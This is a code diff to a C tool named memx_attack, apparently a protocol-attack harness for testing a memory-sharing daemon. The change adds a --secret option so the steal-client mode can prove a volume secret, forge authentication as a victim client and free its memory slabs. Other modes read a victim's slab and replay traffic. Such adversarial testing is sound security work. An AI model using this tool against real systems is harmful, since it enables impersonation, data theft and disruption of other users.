@@ -10,8 +10,10 @@
  *                 READ back --len bytes at --addr/--rkey (a victim slab).
  *   steal-client  CLIENT connect with the victim's id naming a key: key
  *                 --key-id with random bytes (no key), or --key-file's first
- *                 key; MEMX_MSG_AUTH with a random volume secret; then
- *                 FREE_SLAB handles 1..--handles; disconnect.
+ *                 key; MEMX_MSG_AUTH with a random volume secret (with
+ *                 --secret HEX: the proof of that secret, as the volume's
+ *                 own next engine would send it); then FREE_SLAB handles
+ *                 1..--handles; disconnect.
  *   knock         CLIENT connect with the victim's id and disconnect at once,
  *                 without a word. It can get nothing on the wire (exit 3 once
  *                 it hung up): the harm it aims at, the victim's slabs freed
@@ -57,6 +59,8 @@ static struct {
 	uint8_t volume[16];
 	bool have_volume, have_target;
 	uint32_t key_id, rkey, len, handles;
+	uint8_t secret[MEMX_SECRET_LEN];
+	bool have_secret;
 	uint64_t addr;
 } opt = { .port = MEMX_DEFAULT_PORT, .key_id = 1, .len = 4096, .handles = 32,
 	  .ticket = "zero" };
@@ -339,6 +343,17 @@ static int attack_steal_client(void)
 	r = dial(&p, hs.hello, true, "control connection");
 	if (r)
 		return r;
+	if (opt.have_secret) {
+		struct memxd_welcome_info w;
+		struct memxd_wire_error err;
+
+		if (memxd_welcome_decode(p.welcome, p.welcome_len, &w, &err)) {
+			printf("attack: bad welcome: %s\n", err.reason);
+			return EXIT_ERR;
+		}
+		memxd_auth_volume_proof(opt.secret, w.donor_id, secret);
+		printf("attack: proving the volume's secret, as its next engine would\n");
+	}
 	forge_auth(&hs, &key, &p, secret, auth);
 	authed = send_auth(&p, auth, &rep);
 	freed = free_handles(&p);
@@ -501,7 +516,7 @@ static int usage(void)
 	fprintf(stderr, "usage: memx_attack steal-data|steal-client|knock|ticket-swap|record|"
 		"replay --bind IP --donor IP[:PORT] [--volume HEXID] [--addr A --rkey K] [--len N]\n"
 		"        [--ticket zero|random|HEX] [--key-id N] [--key-file PATH] [--handles N]"
-		" [--file PATH]\n");
+		" [--file PATH]\n        [--secret HEX]\n");
 	return EXIT_USAGE;
 }
 
@@ -531,6 +546,14 @@ static int parse_opt(int ch, char *arg)
 	case 'i': opt.key_id = (uint32_t)strtoul(arg, NULL, 0); break;
 	case 'k': opt.key_file = arg; break;
 	case 'f': opt.file = arg; break;
+	case 's':
+		if (strlen(arg) != 2 * MEMX_SECRET_LEN)
+			return -1;
+		for (int i = 0; i < MEMX_SECRET_LEN; i++)
+			if (sscanf(arg + 2 * i, "%2hhx", &opt.secret[i]) != 1)
+				return -1;
+		opt.have_secret = true;
+		break;
 	default: return -1;
 	}
 	return 0;
@@ -545,7 +568,8 @@ int main(int argc, char **argv)
 		{ "handles", required_argument, NULL, 'n' }, { "ticket", required_argument, NULL, 't' },
 		{ "key-id", required_argument, NULL, 'i' },
 		{ "key-file", required_argument, NULL, 'k' },
-		{ "file", required_argument, NULL, 'f' }, { 0 }
+		{ "file", required_argument, NULL, 'f' }, { "secret", required_argument, NULL, 's' },
+		{ 0 }
 	};
 	static const struct {
 		const char *name;
